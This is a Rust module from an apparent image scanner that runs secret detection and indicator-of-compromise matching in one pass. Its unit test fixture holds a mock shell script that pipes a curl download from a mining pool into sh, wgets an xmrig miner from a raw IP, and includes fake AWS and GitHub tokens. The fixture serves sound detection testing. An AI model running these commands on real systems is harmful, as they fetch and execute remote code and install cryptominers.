//! One literal pass over a blob for both the secret detectors' keywords and the indicator
//! lists' names: each pass reads every byte of the image once more, so two passes cost two
//! reads of 723 MB on the bench image where one does.

use super::ioc::{IocHit, IocSet};
use super::literals::{Literals, LiteralsError};
use super::secrets::{DetectorSet, SecretMatch};

/// The secret keywords (word ids `0..secret_words`), then the indicators' names.
pub struct KeywordPass {
    literals: Literals,
    secret_words: usize,
}

impl KeywordPass {
    pub fn new(secrets: &DetectorSet, ioc: &IocSet) -> Result<KeywordPass, LiteralsError> {
        let keywords = secrets.keyword_words();
        let words: Vec<(&[u8], bool)> =
            keywords.iter().map(|(word, caseless)| (word.as_slice(), *caseless)).chain(ioc.name_words()).collect();
        Ok(KeywordPass { literals: Literals::new(&words)?, secret_words: keywords.len() })
    }

    /// The unpaired secrets and the indicators of one blob at `path`, as `DetectorSet::scan_unpaired`
    /// and `IocSet::scan` find them apart.
    pub fn scan(&self, secrets: &DetectorSet, ioc: &IocSet, bytes: &[u8], path: &str) -> (Vec<SecretMatch>, Vec<IocHit>) {
        let mut keywords = secrets.keyword_hits(path, None);
        let mut names = ioc.name_hits(bytes, path);
        self.literals.for_each_match(bytes, |start, word| {
            match word.checked_sub(self.secret_words) {
                None => keywords.hit(start, word),
                // Past the hits a blob keeps, further names are passed over.
                Some(name) => _ = names.hit(start, name),
            }
            true
        });
        (keywords.finish(bytes), names.finish())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_pass_finds_what_the_two_passes_find() {
        let secrets = DetectorSet::compile(&[], true).unwrap();
        let ioc = IocSet::compile(&[], true).unwrap();
        let pass = KeywordPass::new(&secrets, &ioc).unwrap();
        let text = b"#!/bin/sh\nexport AWS_ACCESS_KEY_ID=AKIAQYLPMN5HFIQR7XYZ\ncurl -s http://pool.supportxmr.com:3333/x | sh\n\
            GITHUB_TOKEN=ghp_s49r3vbveraprnx0yuvxv5tel4ymvbmp0hl1 simvoly token = 'x8k2m9q4w7e1r5t3y6u0i8o2p4a6s9d1'\n\
            wget http://45.9.148.99/xmrig -O /tmp/.x; stratum+tcp://xmr.pool.minergate.com:45560\n";
        let (found, iocs) = pass.scan(&secrets, &ioc, text, "/tmp/run.sh");
        let apart = secrets.scan_unpaired(text, "/tmp/run.sh");
        let key = |m: &SecretMatch| (m.detector.id.clone(), m.offset, m.value.clone());
        assert!(!found.is_empty());
        assert_eq!(found.iter().map(key).collect::<Vec<_>>(), apart.iter().map(key).collect::<Vec<_>>());
        let names = |hits: &[IocHit]| hits.iter().map(|hit| (hit.indicator.clone(), hit.offset)).collect::<Vec<_>>();
        assert!(!iocs.is_empty());
        assert_eq!(names(&iocs), names(&ioc.scan(text, "/tmp/run.sh")));
    }
}
